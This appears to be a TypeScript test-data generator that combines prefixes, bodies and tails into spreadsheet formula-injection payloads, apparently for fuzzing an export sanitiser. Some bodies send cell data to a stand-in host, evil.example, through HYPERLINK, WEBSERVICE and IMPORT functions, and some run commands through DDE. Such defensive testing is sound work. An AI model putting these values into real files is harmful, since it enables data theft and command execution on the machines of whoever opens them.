import { randomStream } from "#db/seed/random.ts";

const SEED = 12;
const BEGINNINGS = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  "\n=",
  " =",
  "\u00A0=",
  "＝",
  "＋",
  "－",
  "＠",
  "\u200B=",
  "'=",
  '"=',
  ";=",
  ",=",
  "=-+",
  "\u3000=",
];
const BODIES = [
  "1+1",
  "SUM(A1:A9)",
  'HYPERLINK("http://evil.example/?"&A1,"click")',
  'WEBSERVICE("http://evil.example/"&A1)',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML("http://evil.example","//a")',
  'IMPORTDATA("http://evil.example")',
  "A1",
  "2-1",
  'IF(TRUE,"x","y")',
  "NOW()",
  "{=1}",
  'INDIRECT("A"&1)',
  "1e3",
  'COM.SUN.STAR.SHEET.ADDIN.X("a")',
];
const TAILS = ["", " ", "\r\n=1+1", '"', '",=1+1,"', "\t=2", " 中文", " عربي", "\n@x"];

/** Texts that some spreadsheet takes, or took, for a formula: every beginning with every body and tail, drawn by chance. */
export function payloads(count: number): string[] {
  const random = randomStream(SEED);
  const one = (all: readonly string[]) => all[Math.floor(random() * all.length)] ?? "";
  return Array.from({ length: count }, () => one(BEGINNINGS) + one(BODIES) + one(TAILS));
}

/** Numbers of every size and sign that a table of rates and counts may hold. */
export function numbersFor(count: number): number[] {
  const random = randomStream(SEED + 1);
  return Array.from({ length: count }, (_, at) => {
    if (at % 4 === 0) return Math.floor(random() * 1e7);
    if (at % 4 === 1) return -Math.floor(random() * 1e4);
    return Number((random() * (at % 4 === 2 ? 1 : 1e5)).toPrecision(12)) * (at % 8 < 4 ? 1 : -1);
  });
}
